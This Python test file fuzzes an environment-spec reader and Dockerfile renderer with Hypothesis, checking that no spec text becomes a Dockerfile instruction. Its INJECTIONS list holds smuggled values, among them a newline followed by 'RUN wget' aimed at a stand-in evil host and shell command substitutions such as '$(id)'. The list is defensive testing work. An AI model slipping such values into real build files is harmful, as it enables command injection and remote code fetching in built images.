"""Fuzzing the readers and the renderer (hypothesis).

1. Bytes: real spec files of the corpus, mutated byte by byte (and plain random bytes), under
   every name a form reads (saved v1 folders, v2 YAML, conda and pip files, Dockerfiles,
   curated assets). Discovery, planning and rendering must give an outcome per environment;
   the only errors are envship's own `SpecError`s, each naming a file of the tree.
2. Structure: v1 specs, conda files and Dockerfiles whose every string is arbitrary text. The
   rendered Dockerfile of each one that plans holds exactly the instructions the renderer
   writes for that shape (FROM, the conda steps, one ENV, one LABEL, CMD; or the user's own
   instructions, then ENV and LABEL): no text of a spec becomes an instruction of its own.
"""

from __future__ import annotations

import contextlib
import json
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from controller.core.discovery import discover
from controller.core.dockerfile import instructions
from controller.core.errors import SpecError
from controller.core.model import Environment
from controller.core.plan import plan
from controller.core.render import render
from controller.core.tree import MemoryTree
from tests.support.paths import CASES

CORPUS = CASES / "corpus"
FUZZ = settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    derandomize=True,
)
"""Derandomized: the same examples every run, so a failure in CI is a failure here."""


def _samples() -> list[tuple[str, bytes]]:
    """(file name, bytes) of real spec files, one of each name the forms read, and a few more."""
    wanted = {
        "azureml_environment.json": 4,
        "conda_dependencies.yml": 3,
        "requirements.txt": 1,
        "Dockerfile": 2,
        "BaseDockerfile": 1,
        "docker-image-plus-conda.yml": 1,
        "docker-context.yml": 1,
        "asset.yaml": 1,
        "spec.yaml": 1,
        "environment.yaml": 1,
    }
    found: list[tuple[str, bytes]] = []
    for path in sorted(CORPUS.rglob("*")):
        if path.is_file() and wanted.get(path.name, 0) > 0 and path.stat().st_size < 16384:
            wanted[path.name] -= 1
            found.append((path.name, path.read_bytes()))
    assert len(found) >= 10, found
    return found


SAMPLES = _samples()
NAMES = sorted({name for name, _ in SAMPLES} | {"env.yml", "environment.yml"})


@st.composite
def mutated(draw: st.DrawFn) -> tuple[str, bytes]:
    name, data = draw(st.sampled_from(SAMPLES))
    buffer = bytearray(data)
    for _ in range(draw(st.integers(0, 8))):
        kind = draw(st.sampled_from(["flip", "insert", "delete", "splice"]))
        at = draw(st.integers(0, len(buffer)))
        if kind == "flip" and at < len(buffer):
            buffer[at] = draw(st.integers(0, 255))
        elif kind == "insert":
            buffer[at:at] = draw(st.binary(min_size=1, max_size=16))
        elif kind == "delete":
            del buffer[at : at + draw(st.integers(1, 32))]
        else:  # a piece of another sample: keys and structure that belong elsewhere
            _, other = draw(st.sampled_from(SAMPLES))
            start = draw(st.integers(0, max(0, len(other) - 1)))
            buffer[at:at] = other[start : start + draw(st.integers(1, 200))]
    return draw(st.sampled_from([name, *NAMES])), bytes(buffer)


def outcome_of_every_environment(files: dict[str, bytes]) -> list[Environment]:
    """Discover, plan and render; every error must be a SpecError naming a file of the tree."""
    envs = discover(MemoryTree(files))
    items = plan(envs)
    assert len(items) == len(envs)
    for env in envs:
        if env.error is not None:
            assert isinstance(env.error, SpecError), repr(env.error)
            assert "please report this" not in str(env.error)
    for item in items:
        if item.hash is not None and item.env.build is not None:
            with contextlib.suppress(SpecError):  # e.g. a context file on a reserved path
                render(item.env.build, item.hash)
    return envs


@FUZZ
@given(mutated())
def test_mutated_real_specs_give_an_outcome_or_envships_own_error(sample: tuple[str, bytes]):
    name, data = sample
    outcome_of_every_environment({f"team/env/{name}": data, "good/requirements.txt": b"numpy\n"})


@FUZZ
@given(st.sampled_from(NAMES), st.binary(max_size=2048))
def test_random_bytes_give_an_outcome_or_envships_own_error(name: str, data: bytes):
    outcome_of_every_environment({f"env/{name}": data})


@FUZZ
@given(st.data())
def test_a_mutated_curated_asset_gives_an_outcome_or_envships_own_error(data: st.DataObject):
    asset = {
        "assets/x/asset.yaml": b"name: x\nversion: auto\ntype: environment\nspec: spec.yaml\n"
        b"extra_config: environment.yaml\n",
        "assets/x/spec.yaml": b"$schema: https://azuremlschemas.azureedge.net/latest/"
        b'environment.schema.json\nname: "{{asset.name}}"\nversion: "{{asset.version}}"\n'
        b'build:\n  path: "{{image.context.path}}"\n  dockerfile_path: '
        b'"{{image.dockerfile.path}}"\n',
        "assets/x/environment.yaml": b"image:\n  name: azureml/curated/x\n  os: linux\n"
        b"  context:\n    dir: context\n    dockerfile: Dockerfile\n"
        b"    template_files:\n    - Dockerfile\n  publish:\n    location: mcr\n",
        "assets/x/context/Dockerfile": b"FROM mcr.microsoft.com/azureml/openmpi4.1.0-ubuntu22.04:"
        b"{{latest-image-tag}}\nRUN pip install numpy=={{latest-pypi-version}}\n",
    }
    path = data.draw(st.sampled_from(sorted(asset)))
    original = asset[path]
    at = data.draw(st.integers(0, len(original)))
    piece = data.draw(st.binary(max_size=40) | st.sampled_from([b"{{", b"}}", b"\n", b": ", b"- "]))
    asset[path] = original[:at] + piece + original[at + data.draw(st.integers(0, 20)) :]
    outcome_of_every_environment(asset)


# --- structure: arbitrary text in every string --------------------------------------------

INJECTIONS = [
    "\nRUN wget https://evil.example.org/x",
    "\r\nRUN id",
    "x\\\nRUN id",
    '"\nRUN id',
    "\u2028RUN id",
    "\u0085RUN id",
    "$(id)",
    "${HOME}",
    "`id`",
    '" \\',
    "\x1b[2J",
]
"""Pieces that would start an instruction, or be expanded, if the renderer let them through."""
TEXT = st.text(max_size=40) | st.builds(
    "".join, st.lists(st.text(max_size=8) | st.sampled_from(INJECTIONS), min_size=1, max_size=3)
)
NAME = st.from_regex(r"[a-z][a-z0-9]{0,12}(-[a-z0-9]{1,8})?", fullmatch=True) | TEXT
"""Valid names most of the time (so that specs plan and render), anything now and then."""
VARIABLE = st.from_regex(r"[A-Z_][A-Z0-9_]{0,12}", fullmatch=True) | TEXT
CONDA_STEPS = ["COPY", "RUN", "ENV", "ENV", "ENV", "ENV"]
ENOUGH = 20
"""Examples of each structural test that must plan and render (the rest are refused); about
40 of 300 do, fewer (26 at the lowest seen) when Hypothesis spends its budget differently."""


def keywords(dockerfile: str) -> list[str]:
    return [ins.keyword for ins in instructions(dockerfile)]


def rendered_of_every_planned(files: dict[str, bytes]) -> list[tuple[Environment, str]]:
    envs = outcome_of_every_environment(files)
    out = []
    for item in plan(envs):
        if item.hash is not None and item.env.build is not None:
            out.append((item.env, render(item.env.build, item.hash).dockerfile))
    return out


def expected_rendered(env: Environment) -> list[str]:
    build = env.build
    assert build is not None
    conda = build.python.mode == "conda" and build.python.conda is not None
    head = ["FROM", *(CONDA_STEPS if conda else [])]
    tail = [*(["ENV"] if build.environment else []), "LABEL", *(["CMD"] if conda else [])]
    return head + tail


V1_FIELDS = (
    "name",
    "version",
    "variable name",
    "variable value",
    "interpreter",
    "pip line",
    "conda package",
    "conda channel",
    "base image",
)


def v1_spec(field: str, text: str) -> dict[str, Any]:
    """A valid saved v1 spec with `text` in `field`, user-managed for the interpreter."""
    variables = {"MODE": "train"}
    if field == "variable name":
        variables = {text: "x"}
    elif field == "variable value":
        variables = {"MODE": text}
    return {
        "name": text if field == "name" else "fuzzed",
        "version": text if field == "version" else "1",
        "environmentVariables": variables,
        "python": {
            "userManagedDependencies": field == "interpreter",
            "interpreterPath": text if field == "interpreter" else "python",
            "condaDependencies": {
                "channels": [text if field == "conda channel" else "conda-forge"],
                "dependencies": [
                    "python=3.10",
                    text if field == "conda package" else "numpy",
                    {"pip": [text if field == "pip line" else "requests==2.32.3"]},
                ],
            },
        },
        "docker": {"baseImage": text if field == "base image" else "busybox:1.36"},
    }


def test_no_text_of_a_v1_spec_becomes_an_instruction():
    rendered: list[str] = []

    @FUZZ
    @given(field=st.sampled_from(V1_FIELDS), text=TEXT)
    def check(field: str, text: str) -> None:
        files = {"env/azureml_environment.json": json.dumps(v1_spec(field, text)).encode()}
        for env, dockerfile in rendered_of_every_planned(files):
            assert keywords(dockerfile) == expected_rendered(env), (field, dockerfile)
            rendered.append(dockerfile)

    check()
    assert len(rendered) >= ENOUGH


def test_no_text_of_a_conda_file_becomes_an_instruction():
    rendered: list[str] = []

    @FUZZ
    @given(
        variables=st.dictionaries(VARIABLE, TEXT, max_size=4),
        dependencies=st.lists(st.sampled_from(["python=3.10", "numpy"]) | TEXT, max_size=3),
        pip=st.lists(TEXT, max_size=3),
    )
    def check(variables: dict[str, str], dependencies: list[str], pip: list[str]) -> None:
        doc: dict[str, Any] = {"channels": ["conda-forge"], "dependencies": [*dependencies]}
        if pip:
            doc["dependencies"].append({"pip": pip})
        if variables:
            doc["variables"] = variables
        files = {"env/environment.yml": json.dumps(doc).encode()}  # JSON is YAML
        for env, dockerfile in rendered_of_every_planned(files):
            assert keywords(dockerfile) == expected_rendered(env), dockerfile
            rendered.append(dockerfile)

    check()
    assert len(rendered) >= ENOUGH


def test_a_users_dockerfile_keeps_its_instructions_and_gets_only_env_and_label():
    rendered: list[str] = []

    @FUZZ
    @given(variables=st.dictionaries(VARIABLE, TEXT, max_size=4), argument=TEXT)
    def check(variables: dict[str, str], argument: str) -> None:
        dockerfile = f"FROM busybox:1.36\nRUN echo {json.dumps(argument)}\n"
        v1 = {"name": "saved", "version": "1", "environmentVariables": variables,
              "python": {"userManagedDependencies": True},
              "docker": {"baseImage": None, "baseDockerfile": dockerfile}}  # fmt: skip
        spec = {
            "$schema": "https://azuremlschemas.azureedge.net/latest/environment.schema.json",
            "name": "app",
            "build": {"path": "context"},
        }
        files = {
            "v1/azureml_environment.json": json.dumps(v1).encode(),
            "v2/env.yml": json.dumps(spec).encode(),
            "v2/context/Dockerfile": dockerfile.encode(),
        }
        for env, out in rendered_of_every_planned(files):
            build = env.build
            assert build is not None
            own = keywords(dockerfile)
            assert keywords(out) == [*own, *(["ENV"] if build.environment else []), "LABEL"]
            rendered.append(out)

    check()
    assert len(rendered) >= ENOUGH
